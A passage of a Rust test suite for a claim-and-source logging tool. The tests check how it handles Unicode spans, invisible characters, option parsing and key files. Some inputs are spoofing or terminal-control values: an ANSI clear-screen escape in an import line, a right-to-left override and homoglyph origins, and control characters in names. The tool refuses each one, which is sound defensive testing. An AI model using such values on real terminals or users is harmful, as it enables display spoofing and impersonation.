    // characters as shown (it gave 64 and 66, and 64 was refused next).
    run(
        &["--span", "65..79"],
        "span start 65 falls inside a multi-byte UTF-8 character (nearest boundaries: 63 and 66)",
    );
    // Whole characters, marks included, are quoted as ever.
    let args = claim(&["--quote", "turnout =\u{338}"]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    assert_eq!(w.run(Some("analyst"), &args).ok().trim(), "C1");
    let args = claim(&["--span", "60..66"]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    assert_eq!(w.run(Some("analyst"), &args).ok().trim(), "C2");
    // A near match's hint gives whole characters: its span ended inside
    // the woman-technologist emoji sequence, which --span then refused.
    let e = w.source_from_stdin(
        "analyst",
        "tweet",
        "The coder \u{1f469}\u{200d}\u{1f4bb} works.",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            &e,
            "--quote",
            "THE CODER \u{1f469}",
            "--speaker",
            "X",
            "--provenance",
            "tweet",
        ],
        "(hint: to claim the source's own text, use --span 0..21 instead of --quote)",
    );
    // A NUL byte: binary or broken input, refused with where it is (it
    // was taken, and a claim could hold it unseen; red team N #5).
    std::fs::write(w.path("nul.txt"), b"nul here\0 and after.\n").unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", "nul.txt", "--kind", "statement"],
        "error: nul.txt holds a NUL byte (U+0000) at offset 8, in `nul here\\u{0} and after.`: text holds none, and it marks binary or broken input (hint: if the text is otherwise right, `tr -d '\\000' < nul.txt > nul.txt.clean` removes them; check the copy against the original, then give nul.txt.clean)",
    );
    // Between the CR and the LF of a Windows line break: the boundary a
    // span takes there is named (it gave both sides, and the one after
    // the break was refused next, as ending in white space; red team N #3).
    let crlf = w.source_from_stdin(
        "analyst",
        "statement",
        "Line one said hello.\r\nLine two said more.\r\n",
    );
    let span = |span: &str| {
        [
            "claim",
            "add",
            "--source",
            &crlf,
            "--span",
            span,
            "--speaker",
            "X",
            "--provenance",
            "statement",
        ]
        .map(String::from)
    };
    let args = span("14..21");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    refused(&w, Some("analyst"), &args, "error: span end 21 falls inside a line break (a CR and an LF, which are one break): end it before the break, at 20 (hint: ");
    let args = span("21..30");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    refused(&w, Some("analyst"), &args, "error: span start 21 falls inside a line break (a CR and an LF, which are one break): start it after the break, at 22 (hint: ");
    let args = span("14..20");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    w.run(Some("analyst"), &args).ok();
    // A span that begins inside a word is recorded, and said to cut it,
    // with the span of the whole word (red team N #2: `EPP` out of
    // `ALEPPO` was signed without a word).
    let args = span("16..25");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let r = w.run(Some("analyst"), &args);
    let c = r.ok_noted().trim().to_string();
    assert_eq!(
        r.stderr.lines().next(),
        Some(format!("note: {c} (16..25) cuts the words `hello` and `Line` of S3: if whole words were meant, record --span 14..26 and retract {c} (`claimtrail claim retract {c} --replaced-by C<n> --reason \"…\"`)").as_str())
    );
}

/// Persian writes a zero-width non-joiner inside words (`می‌خواهیم`, "we
/// want"), and a quote typed on another keyboard often leaves it out: the
/// quote is found with the half-space set aside, the difference named, the
/// source's own text shown with it escaped, and the span offered works.
#[test]
fn a_persian_quote_typed_without_its_half_space_is_found() {
    let w = Work::with_team();
    let text = "\u{648}\u{632}\u{6cc}\u{631} \u{6af}\u{641}\u{62a}: \u{ab}\u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{6cc}\u{645} \u{635}\u{644}\u{62d} \u{628}\u{627}\u{634}\u{62f}\u{bb}";
    let s = w.source_from_stdin("analyst", "statement", text);
    let typed = "\u{645}\u{6cc}\u{62e}\u{648}\u{627}\u{647}\u{6cc}\u{645} \u{635}\u{644}\u{62d} \u{628}\u{627}\u{634}\u{62f}";
    let (at, end) = (text.find('\u{645}').unwrap(), text.find('\u{bb}').unwrap());
    refused(
        &w,
        Some("analyst"),
        &["claim", "add", "--source", &s, "--quote", typed, "--speaker", "Minister", "--provenance", "statement"],
        &format!("the quote does not occur in S1 as given, but with other zero-width non-joiners or joiners (half-spaces) it does, at line 1 col 12 (bytes {at}..{end}): `\u{645}\u{6cc}\\u{{200c}}"),
    );
    let span = format!("{at}..{end}");
    let claim = w.run(
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            &s,
            "--span",
            &span,
            "--speaker",
            "Minister",
            "--provenance",
            "statement",
        ],
    );
    assert_eq!(claim.ok(), "C1\n");
}

/// Text from web pages carries characters that draw nothing (a zero-width
/// space, a soft hyphen): the quote typed from the page is found, and the
/// difference named; `--contains` finds the text; a speaker pasted with
/// one is the same speaker.
#[test]
fn invisible_characters_from_web_copy_are_set_aside_when_looking() {
    let w = Work::with_team();
    let text =
        "The Minis\u{ad}ter said: \u{201c}We will re\u{200b}build the bridge by spring.\u{201d}";
    let s = w.source_from_stdin("analyst", "statement", text);
    let at = text.find("We will").unwrap();
    let end = text.find('\u{201d}').unwrap();
    refused(
        &w,
        Some("analyst"),
        &["claim", "add", "--source", &s, "--quote", "We will rebuild the bridge by spring.", "--speaker", "The Minister", "--provenance", "statement"],
        &format!("the quote does not occur in S1 as given, but with other invisible characters (zero-width spaces, soft hyphens, word joiners, bidirectional marks, variation selectors) it does, at line 1 col 22 (bytes {at}..{end}): `We will re\\u{{200b}}build the bridge by spring.`"),
    );
    // A right-to-left mark, as text copied from an Arabic page carries
    // one: set aside too (it was "does not occur", with no place).
    refused(
        &w,
        Some("analyst"),
        &["claim", "add", "--source", &s, "--quote", "We will re\u{200b}bu\u{200f}ild the bridge by spring.", "--speaker", "The Minister", "--provenance", "statement"],
        &format!("but with other invisible characters (zero-width spaces, soft hyphens, word joiners, bidirectional marks, variation selectors) it does, at line 1 col 22 (bytes {at}..{end})"),
    );
    let found = w.run(
        None,
        &[
            "list",
            "sources",
            "--contains",
            "rebuild the bridge",
            "--json",
        ],
    );
    assert_eq!(json_ids(found.ok()), ["S1"]);
    // (Three claims: one spelling each, each reaching the source another
    // way, since one speaker's claim of one span and provenance is recorded
    // once. A speaker with a zero-width space in it, as copied from a
    // page, is refused since 2026-12-05: it is no other spelling.)
    for (speaker, via) in [
        ("The Minister", "statement"),
        ("THE MINISTER", "interview"),
        ("the minister", "tweet"),
    ] {
        let span = format!("{at}..{end}");
        w.run(
            Some("analyst"),
            &[
                "claim",
                "add",
                "--source",
                &s,
                "--span",
                &span,
                "--speaker",
                speaker,
                "--provenance",
                via,
            ],
        )
        .ok_noted();
    }
    let speakers = w.run(None, &["list", "speakers"]);
    assert!(speakers.ok().contains("3 spellings"), "{}", speakers.stdout);
    assert_eq!(
        speakers
            .stdout
            .lines()
            .filter(|l| l.to_lowercase().starts_with("the minister"))
            .count(),
        1,
        "{}",
        speakers.stdout
    );
}

/// A free-text option accepts a leading dash (a quote or a reason may start
/// with one), but not one of the command's own options in place of its
/// text: `--reason --help` redacted a source for good, with the reason
/// "--help", where the user asked for help.
#[test]
fn an_option_is_not_taken_for_the_text_an_option_needs() {
    let w = Work::with_claims();
    refused(
        &w,
        Some("admin"),
        &["source", "redact", "S1", "--reason", "--help"],
        "error: --reason needs a text, and `--help` is one of this command's options, not a text: nothing was done (hint: write the text right after --reason (in quotes if it has spaces), or run `claimtrail source redact --help`)",
    );
    refused(
        &w,
        Some("analyst"),
        &["claim", "retract", "C1", "--reason", "--json"],
        "`--json` is one of this command's options",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--note",
            "--verdict=false",
            "--verdict",
            "false",
        ],
        "--note needs a text, and `--verdict=false` is one of",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "civilians",
            "--speaker",
            "-h",
            "--provenance",
            "tweet",
        ],
        "--speaker needs a text, and `-h` is one",
    );
    // Text that only starts with a dash is text.
    let out = w.run(
        Some("analyst"),
        &[
            "claim",
            "retract",
            "C2",
            "--reason",
            "--wrong speaker, see the agency's correction",
        ],
    );
    assert!(out.ok().contains("C2"), "{}", out.stdout);
    w.run(None, &["verify"]).ok();
}

/// Texts that say nothing, or hold what a terminal acts on, are refused by
/// the commands and by import (verify does not judge them: a log written
/// otherwise is read, and shown escaped).
#[test]
fn texts_that_say_nothing_or_hold_controls_are_refused() {
    let w = Work::with_claims();
    std::fs::write(w.path("other.txt"), "Another text.").unwrap();
    // Who may not add sources is told so first, before what the log holds.
    refused(
        &w,
        Some("auditor"),
        &["source", "add", FIXTURE, "--kind", "article"],
        "has role auditor, which may not sign source.add entries",
    );
    let analyst = Some("analyst");
    for (args, said) in [
        (
            &["claim", "retract", "C1", "--reason", "\u{200b}"][..],
            "error: the reason holds only white space or characters that draw nothing (U+200B) (hint: give the reason in words)",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "\u{200f}", "--provenance", "tweet"],
            "error: the speaker holds only white space or characters that draw nothing (U+200F)",
        ),
        (
            &["annotate", "C1", "--verdict", "false", "--note", " \u{2800}"],
            "error: the note holds only white space or characters that draw nothing (U+0020, U+2800)",
        ),
        (
            &["source", "add", "other.txt", "--kind", "article", "--title", "\u{200b}"],
            "error: the title holds only white space or characters that draw nothing (U+200B)",
        ),
        // A quote of a space: the `--occurrence` hint used to record one.
        (
            &["claim", "add", "--source", "S1", "--quote", " ", "--occurrence", "5", "--speaker", "X", "--provenance", "tweet"],
            "error: the quote holds only white space or characters that draw nothing (U+0020) (hint: choose the claim's words with --quote (or --span))",
        ),
        // Said before it is looked for: it "occurred 789 times", with the
        // advice to choose an --occurrence that was then refused.
        (
            &["claim", "add", "--source", "S1", "--quote", " ", "--speaker", "X", "--provenance", "tweet"],
            "error: the quote holds only white space or characters that draw nothing (U+0020) (hint: choose the claim's words with --quote (or --span))",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "\u{200b}", "--speaker", "X", "--provenance", "tweet"],
            "error: the quote holds only white space or characters that draw nothing (U+200B)",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "A\tB", "--provenance", "tweet"],
            "error: the speaker A\\tB holds U+0009, a tab, and the speaker is one line",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "Evil\u{7}", "--provenance", "tweet"],
            "error: the speaker Evil\\u{7} holds U+0007, a control character",
        ),
        // A speaker, an author, a publisher are names: nothing around them,
        // nothing inside that draws nothing. Each of these looked like
        // "White Helmets", and was a speaker apart, so that the same quote
        // was recorded again.
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "White Helmets ", "--provenance", "tweet"],
            "error: the speaker \"White Helmets \" begins or ends with white space or a bidirectional mark (hint: give the speaker without it (it would be another speaker that looks the same))",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "White Hel\u{ad}mets", "--provenance", "tweet"],
            "error: the speaker \"White Hel\\u{ad}mets\" holds U+00AD, a character that draws nothing (hint: type the speaker again without it (it would be another speaker that looks the same))",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "White\u{200b} Helmets", "--provenance", "tweet"],
            "holds U+200B, a character that draws nothing",
        ),
        (
            &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "\u{62f}\u{641}\u{627}\u{639}\u{200f}", "--provenance", "tweet"],
            "begins or ends with white space or a bidirectional mark",
        ),
        (
            &["source", "add", "other.txt", "--kind", "article", "--author", "\u{feff}Rana Haddad"],
            "error: the author \"\\u{feff}Rana Haddad\" holds U+FEFF, a character that draws nothing",
        ),
    ] {
        refused(&w, analyst, args, said);
    }
    // A mark inside a name written in two directions orders it, and stays.
    let out = w.run(
        analyst,
        &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "\u{627}\u{644}\u{62f}\u{641}\u{627}\u{639} \u{627}\u{644}\u{645}\u{62f}\u{646}\u{64a}\u{200f} (White Helmets)", "--provenance", "tweet"],
    );
    assert_eq!(out.ok(), "C3\n");
    // A multi-line note keeps its line breaks and tabs.
    let out = w.run(
        analyst,
        &[
            "annotate",
            "C1",
            "--verdict",
            "false",
            "--note",
            "one\n\ttwo",
        ],
    );
    assert!(out.ok().starts_with('A'), "{}", out.stdout);
    // The same rules for an import line, named by its number.
    std::fs::write(
        w.path("c.jsonl"),
        "{\"type\":\"annotation\",\"claim\":\"C2\",\"verdict\":\"false\",\"note\":\"x\\u001b[2Jy\"}\n",
    )
    .unwrap();
    refused(
        &w,
        analyst,
        &["import", "c.jsonl"],
        "error: line 1: the note x\\u{1b}[2Jy holds U+001B, a control character",
    );
    // An origin that reads as another, or reverses on screen.
    let fresh = Work::new();
    fresh.key("admin");
    for origin in ["a\u{202e}b.example", "a\u{200b}b.example"] {
        let r = fresh.run(Some("admin"), &["init", "--origin", origin]);
        r.error("a character that draws nothing or reorders the text around it");
        assert!(
            !r.stderr.contains('\u{202e}') && !r.stderr.contains('\u{200b}'),
            "{}",
            r.stderr
        );
        assert!(!fresh.db.exists());
    }
    // Or that prints as another (red-team round 3): full-width letters,
    // a Cyrillic е among Latin ones. One script, any script, is taken.
    fresh
        .run(Some("admin"), &["init", "--origin", "ｎｅｗｓ.example/x"])
        .error("error: the origin `ｎｅｗｓ.example/x` has characters that print like others (full-width or styled letters, accents typed apart, ligatures) (hint: give it as news.example/x)");
    fresh
        .run(
            Some("admin"),
            &["init", "--origin", "newsroom.\u{435}xample/idlib-2022"],
        )
        .error("error: the origin's part `\u{435}xample` mixes letters of different scripts");
    assert!(!fresh.db.exists());
    fresh
        .run(
            Some("admin"),
            &["init", "--origin", "новости.пример/идлиб-2022"],
        )
        .ok();
}

/// A value that starts with `-` reaches its own parser, which says what is
/// wrong with it, rather than clap's "unexpected argument '-1' found".
#[test]
fn negative_values_are_refused_for_what_they_are() {
    let w = Work::with_claims();
    for (args, said) in [
        (
            &[
                "claim",
                "add",
                "--source",
                "S1",
                "--span",
                "-1..5",
                "--speaker",
                "x",
                "--provenance",
                "tweet",
            ][..],
            "error: `-1..5` is not a span",
        ),
        (
            &[
                "claim",
                "add",
                "--source",
                "S1",
                "--span",
                "+0..+6",
                "--speaker",
                "x",
                "--provenance",
                "tweet",
            ][..],
            "error: `+0..+6` is not a span: write START..END with byte offsets, e.g. 120..187",
        ),
        (
            &[
                "annotate",
                "C1",
                "--verdict",
                "false",
                "--credibility",
                "-1",
            ],
            "`-1` is not a credibility grade: use 1 to 6",
        ),
        (&["prove", "-1"], "error: `-1` is not an id"),
        (
            &["claim", "suggest", "S1", "--add", "-1"],
            "error: `-1` is not a candidate number",
        ),
        (
            &[
                "source",
                "add",
                FIXTURE,
                "--kind",
                "article",
                "--published",
                "-0001-01-01",
            ],
            "error: `-0001-01-01` is not a date",
        ),
    ] {
        refused(&w, Some("analyst"), args, said);
    }
}

/// A file that is no key is said to be none, before its permissions (an
/// article was told to `chmod 600`, then that it is no key, in the
/// parser's words about a NUL byte it did not hold); and `key new` refuses
/// a comment that `key add` would refuse as the name (its printed next
/// step failed).
#[test]
fn what_is_no_key_and_a_comment_no_name_are_said_first() {
    use std::os::unix::fs::PermissionsExt;
    let w = Work::with_claims();
    std::fs::write(w.path("article.txt"), "Seven civilians were killed.\n").unwrap();
    std::fs::set_permissions(
        w.path("article.txt"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    refused(
        &w,
        Some("article.txt"),
        &["annotate", "C1", "--verdict", "false"],
        "article.txt: not an OpenSSH private key: it does not begin with -----BEGIN OPENSSH PRIVATE KEY-----",
    );
    // A real key readable by others is still refused for that.
    std::fs::set_permissions(w.path("analyst"), std::fs::Permissions::from_mode(0o644)).unwrap();
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C1", "--verdict", "false"],
        "chmod 600",
    );
    std::fs::set_permissions(w.path("analyst"), std::fs::Permissions::from_mode(0o600)).unwrap();
    for (comment, said) in [
        ("", "error: the comment is empty, and `key add` takes it as the key's name"),
        ("a\u{202e}b", "error: the name a\\u{202e}b holds U+202E, a control or invisible character: `key add` takes the comment as the key's name, and would refuse it"),
        ("\u{410}dmin", "mixes letters of different scripts: `key add` takes the comment as the key's name"),
    ] {
        w.run(None, &["key", "new", "k", "--no-passphrase", "--comment", comment])
            .error(said);
        assert!(!w.path("k").exists() && !w.path("k.pub").exists());
    }
}

/// An id of the wrong kind is named with its article ("a annotation").
#[test]
fn an_id_of_the_wrong_kind_is_named_in_plain_english() {
    let w = Work::with_claims();
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C2", "--verdict", "false", "--supersedes", "C1"],
        "error: C1 is not an annotation id",
    );
}

/// `key revoke` takes a key through a pipe as `key add` does (a pipe's
/// name was taken for an enrolled name), and a file that is no key but
/// bears an enrolled name is taken as that name.
#[test]
fn a_key_to_revoke_through_a_pipe_or_by_a_name_a_file_also_has() {
    let w = Work::with_team();
    w.key("third");
    w.run(
        Some("admin"),
        &[
            "key",
            "add",
            "third.pub",
            "--role",
            "analyst",
            "--name",
            "Third Person",
        ],
    )
    .ok();
    let public = std::fs::read(w.path("third.pub")).unwrap();
    let r = w.run_with(
        Some("admin"),
        &[],
        &["key", "revoke", "/dev/stdin", "--reason", "left the desk"],
        Some(&public),
    );
    assert!(
        r.ok().starts_with("revoked Third Person (SHA256:"),
        "{}",
        r.stdout
    );
    // A key in a format claimtrail does not read, under an enrolled
    // person's name, is a key: its name is not guessed at (an RFC 4716
    // copy of another key revoked that person's).
    std::fs::write(
        w.path("Rana Haddad"),
        "---- BEGIN SSH2 PUBLIC KEY ----\nAAAAC3NzaC1lZDI1NTE5AAAAIE\n---- END SSH2 PUBLIC KEY ----\n",
    )
    .unwrap();
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "Rana Haddad", "--reason", "left the desk"],
        "this is an RFC 4716 (SSH2) public key",
    );
    std::fs::write(w.path("Rana Haddad"), "meeting notes, not a key\n").unwrap();
    let r = w.run(
        Some("admin"),
        &["key", "revoke", "Rana Haddad", "--reason", "left the desk"],
    );
    assert!(
        r.ok().starts_with("revoked Rana Haddad (SHA256:"),
        "{}",
        r.stdout
    );
}

/// A Persian name keeps its zero-width non-joiner (`محمد‌رضا`), refused
/// before as an invisible character; written without it, it is the same
/// name, and a second key may not take it.
#[test]
fn a_persian_name_keeps_its_non_joiner_and_reads_as_one_name() {
    let w = Work::with_team();
    let persian = "\u{645}\u{62d}\u{645}\u{62f}\u{200c}\u{631}\u{636}\u{627}";
    w.key("mr");
    w.key("other");
    let r = w.run(
        Some("admin"),
        &[
            "key", "add", "mr.pub", "--role", "analyst", "--name", persian,
        ],
    );
    assert!(r.ok().starts_with("enrolled "), "{}", r.stdout);
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            &persian.replace('\u{200c}', ""),
        ],
        "by another enrolled key",
    );
    // Found by the name written either way.
    let plain = persian.replace('\u{200c}', "");
    // (The key signed nothing: found, and nothing listed.)
    let r = w.run(None, &["log", "--by", &plain]);
    assert!(r.nothing().starts_with("no entry matches"), "{}", r.stderr);
    let r = w.run(
        Some("admin"),
        &["key", "revoke", &plain, "--reason", "left the desk"],
    );
    assert!(r.ok().starts_with("revoked "), "{}", r.stdout);
}

/// A Sinhala name keeps the zero-width joiner its Sri needs (ශ්‍රී: the
/// joiner follows the virama), as a Persian name keeps its non-joiner; the
/// same name without it is the same name.
#[test]
fn a_sinhala_name_keeps_its_joiner_and_reads_as_one_name() {
    let w = Work::with_team();
    let sri = "\u{0dc1}\u{0dca}\u{200d}\u{0dbb}\u{0dd3} \u{0dbd}\u{0d82}\u{0d9a}\u{0dcf}";
    let plain = sri.replace('\u{200d}', "");
    w.key("sri");
    w.key("other");
    let r = w.run(
        Some("admin"),
        &["key", "add", "sri.pub", "--role", "analyst", "--name", sri],
    );
    assert!(r.ok().starts_with("enrolled "), "{}", r.stdout);
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            &plain,
        ],
        "by another enrolled key",
    );
    // Out of a word it is refused as before.
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            "other.pub",
            "--role",
            "analyst",
            "--name",
            "Rana\u{200d} Haddad",
        ],
        "holds U+200D, a control or invisible character",
    );
    let r = w.run(None, &["--json", "list", "keys"]);
    assert!(r.ok().contains(sri), "{}", r.stdout);
    let r = w.run(
        Some("admin"),
        &["key", "revoke", &plain, "--reason", "left the desk"],
    );
    assert!(r.ok().starts_with("revoked "), "{}", r.stdout);
}

/// A Turkish name is found in either case: Unicode lowers `İ` to `i` and a
/// combining dot, so `ismail şahin` named no key.
#[test]
fn a_turkish_name_is_found_in_either_case() {
    let w = Work::with_team();
    w.key("ismail");
    let r = w.run(
        Some("admin"),
        &[
            "key",
            "add",
            "ismail.pub",
            "--role",
            "auditor",
            "--name",
            "İsmail Şahin",
        ],
    );
    assert!(r.ok().starts_with("enrolled "), "{}", r.stdout);
    let r = w.run(
        Some("admin"),
        &["key", "revoke", "ismail şahin", "--reason", "left the desk"],
    );
    assert!(r.ok().starts_with("revoked İsmail Şahin "), "{}", r.stdout);
}

/// A list typed with spaces after its commas, as people type lists, names
/// the same ids (`--contradicts "C2, C1"` was refused: "` C1` is not an id").
#[test]
fn a_list_with_spaces_after_its_commas_is_read_as_typed() {
    let w = Work::with_claims();
    std::fs::write(w.path("wire.txt"), "The wire.").unwrap();
    std::fs::write(w.path("copy.txt"), "A copy of the wire.").unwrap();
    let out = w.run(
        Some("analyst"),
        &["source", "add", "wire.txt", "--kind", "news_agency"],
    );
    assert_eq!(out.ok(), "S2\n");
    let out = w.run(
        Some("analyst"),
        &[
            "source",
            "add",
            "copy.txt",
            "--kind",
            "article",
            "--derived-from",
            "S1, S2",
        ],
    );
    assert_eq!(out.ok(), "S3\n");
    let shown: serde_json::Value =
        serde_json::from_str(w.run(None, &["--json", "show", "S3"]).ok()).unwrap();
    assert_eq!(
        shown["source"]["derived_from"],
        serde_json::json!(["S1", "S2"]),
        "{shown}"
    );
    let out = w.run(
        Some("analyst"),
        &[
            "annotate",
            "C2",
            "--verdict",
            "false",
            "--contradicts",
            " C1",
        ],
    );
    assert_eq!(out.ok(), "A2\n");
    // A source listed twice is named, as the option gives it (it said
    // "derived_from lists S1 twice", a name the command does not have).
    std::fs::write(w.path("copy2.txt"), "Another copy of the wire.\n").unwrap();
    refused(
        &w,
        Some("analyst"),
        &[
            "source",
            "add",
            "copy2.txt",
            "--kind",
            "article",
            "--derived-from",
            "S1,S2,S1",
        ],
        "S1 is listed twice in --derived-from (hint: list each source once)",
    );
}

/// Quotation marks as French and Chinese texts write them: a French
/// quote's guillemets are set apart by no-break spaces, a Chinese one is
/// in corner brackets. Typed the usual way, both are found as near matches
/// with the span to claim (they were "not in the source", no help).
#[test]
fn french_and_chinese_quotation_marks_are_found_as_near_matches() {
    let w = Work::with_claims();
    let text = "Le ministre a déclaré : «\u{a0}La France condamne fermement ces frappes.\u{a0}» Puis il est parti.\n\
                外交部发言人表示：「我们呼吁有关各方保持冷静克制。」\n";
    let s = w.source_from_stdin("analyst", "article", text);
    for (quote, differences, span) in [
        (
            "«La France condamne fermement ces frappes.»",
            "other quotation marks or apostrophes and spacing",
            "26..75",
        ),
        (
            "\"La France condamne fermement ces frappes.\"",
            "other quotation marks or apostrophes and spacing",
            "26..75",
        ),
        (
            "“我们呼吁有关各方保持冷静克制。”",
            "other quotation marks or apostrophes",
            "122..173",
        ),
    ] {
        let r = w.run(
            Some("analyst"),
            &[
                "claim",
                "add",
                "--source",
                &s,
                "--quote",
                quote,
                "--speaker",
                "X",
                "--provenance",
                "statement",
            ],
        );
        r.error(&format!("but with {differences} it does"));
        assert!(
            r.stderr
                .contains(&format!("use --span {span} instead of --quote")),
            "{}",
            r.stderr
        );
    }
    let r = w.run(
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            &s,
            "--span",
            "122..173",
            "--speaker",
            "外交部发言人",
            "--provenance",
            "statement",
        ],
    );
    assert_eq!(r.ok(), "C3\n");
    // A Chinese quote with words left out (`……`): its parts of a few
    // characters each say as much as a dozen Latin letters, and are found.
    let r = w.run(
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            &s,
            "--quote",
            "我们呼吁……冷静克制",
            "--speaker",
            "X",
            "--provenance",
            "statement",
        ],
    );
    r.error("the quote leaves text out (an ellipsis), and a claim is one exact span of S2: its 2 parts occur in order");
    // Where the texts part at a character that draws nothing (a Persian
    // non-joiner), it is shown as its code point: both sides looked alike.
    let fa = w.source_from_stdin(
        "analyst",
        "statement",
        "\u{648}\u{632}\u{6cc}\u{631}: \u{ab}\u{645}\u{627} \u{627}\u{6cc}\u{646} \u{62d}\u{645}\u{644}\u{647} \u{631}\u{627} \u{645}\u{62d}\u{6a9}\u{648}\u{645} \u{645}\u{6cc}\u{200c}\u{6a9}\u{646}\u{6cc}\u{645}\u{bb}.\n",
    );
    let r = w.run(
        Some("analyst"),
        &["claim", "add", "--source", &fa, "--quote", "\u{645}\u{627} \u{627}\u{6cc}\u{646} \u{62d}\u{645}\u{644}\u{647} \u{631}\u{627} \u{645}\u{62d}\u{6a9}\u{648}\u{645} \u{645}\u{6cc}\u{6a9}\u{646}\u{6cc}\u{645}", "--speaker", "X", "--provenance", "statement"],
    );
    r.error("but with other zero-width non-joiners or joiners (half-spaces) it does, at line 1 col 8 (bytes 12..64): `\u{645}\u{627} \u{627}\u{6cc}\u{646} \u{62d}\u{645}\u{644}\u{647} \u{631}\u{627} \u{645}\u{62d}\u{6a9}\u{648}\u{645} \u{645}\u{6cc}\\u{200c}\u{6a9}\u{646}\u{6cc}\u{645}`");
}

/// Superseding an annotation of another claim is refused as such, even
/// when that annotation was superseded already (the hint was to supersede
/// its successor, which was refused in turn as of another claim).
#[test]
fn superseding_an_annotation_of_another_claim_says_so_first() {
    let w = Work::with_claims();
    let a2 = w.run(
        Some("analyst"),
        &["annotate", "C1", "--verdict", "false", "--supersedes", "A1"],
    );
    assert_eq!(a2.ok(), "A2\n");
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C2", "--verdict", "false", "--supersedes", "A1"],
        "A1 is an annotation of C1, not of C2, so it cannot be superseded by this one",
    );
}

/// `-` as a file to write: refused (exit 2, nothing appended), where
/// `export --out -`, `checkpoint --out -`, `backup -`, `publish -`, `key
/// new -`, `demo --dir -` and `--db - init` made a file named `-` and
/// said they wrote "-"; `report --out -` is standard output, and the other
/// --out options write files only.
#[test]
fn a_dash_is_not_a_file_to_write() {
    let w = Work::with_claims();
    w.run(Some("admin"), &["checkpoint", "--out", "cp.txt"])
        .ok();
    let before = w.db_bytes();
    let says = "needs a file or directory, and `-` (standard input or output elsewhere) names none here (hint: give its name (./- for one named -))";
    w.run(Some("admin"), &["export", "C1", "--out", "-"])
        .error(says);
    w.run(Some("admin"), &["checkpoint", "--out", "-"])
        .error(says);
    w.run(
        Some("auditor"),
        &["checkpoint", "cosign", "cp.txt", "--out", "-"],
    )
    .error(says);
    w.run(None, &["backup", "-"]).error(says);
    w.run(None, &["publish", "-"]).error(says);
    w.run(None, &["key", "new", "-", "--no-passphrase"])
        .error(says);
    w.run(None, &["demo", "--dir", "-"]).error(says);
    // A file given as the directory is said to be one (it was "already
    // exists and is not empty").
    std::fs::write(w.path("notes.txt"), "x").unwrap();
    w.run(None, &["demo", "--dir", "notes.txt"]).error(
        "error: notes.txt is a file, not a directory (hint: give a new directory with --dir",
    );
    w.run(
        Some("admin"),
        &["--db", "-", "init", "--origin", "x.example/y"],
    )
    .error(says);
    assert!(!w.path("-").exists());
    assert!(w.db_bytes() == before, "nothing was appended");
}

/// A --db that is a symbolic link leading nowhere, or round in a loop, is
/// said to be one: it was "no claimtrail database (hint: run init)", and
/// init then refused because the name existed.
#[test]
fn a_db_that_is_a_broken_link_is_named_as_one() {
    let w = Work::new();
    std::os::unix::fs::symlink("/nonexistent/log.db", w.path("dangling")).unwrap();
    std::os::unix::fs::symlink("l2", w.path("l1")).unwrap();
    std::os::unix::fs::symlink("l1", w.path("l2")).unwrap();
    w.run(None, &["--db", "dangling", "status"]).error(
        "error: dangling is a symbolic link to /nonexistent/log.db, which does not exist (hint: point --db (or CLAIMTRAIL_DB) at the log itself, or mend the link)",
    );
    w.run(None, &["--db", "l1", "verify"])
        .error("error: l1 is a symbolic link to l2, which leads round in a loop of links");
}

/// A source text of only white space (or characters that draw nothing)
/// is refused as an empty one is, by `source add` and `import`: it was
/// signed for good, a source that quotes no one.
#[test]
fn a_source_of_only_white_space_is_refused() {
    let w = Work::with_claims();
    std::fs::write(w.path("blank.txt"), "   \n\t\u{200b}\n").unwrap();
    let before = w.db_bytes();
    w.run(Some("analyst"), &["source", "add", "blank.txt", "--kind", "article"])
        .error("blank.txt holds nothing to read (only white space or characters that draw nothing) (hint: give the source's text)");
    let line = r#"{"type":"source","kind":"tweet","text":"  \n "}"#;
    w.run_with(
        Some("analyst"),
        &[],
        &["import", "-"],
        Some(line.as_bytes()),
    )
    .error("holds nothing to read");
    assert!(w.db_bytes() == before);
}

/// The only admin rotating their key: `key add` under their live name is
/// refused, and so is revoking the last admin first; the first refusal's
/// hint said to revoke first, the second's to enroll first. It now says
/// the way round, which works.
#[test]
fn the_only_admin_is_told_how_to_rotate_their_key() {
    let w = Work::with_claims();
    w.key("admin2");
    let add = |name: &str| {
        let args = [
            "key",
            "add",
            "admin2.pub",
            "--role",
            "admin",
            "--name",
            name,
        ];
        w.run(Some("admin"), &args)
    };
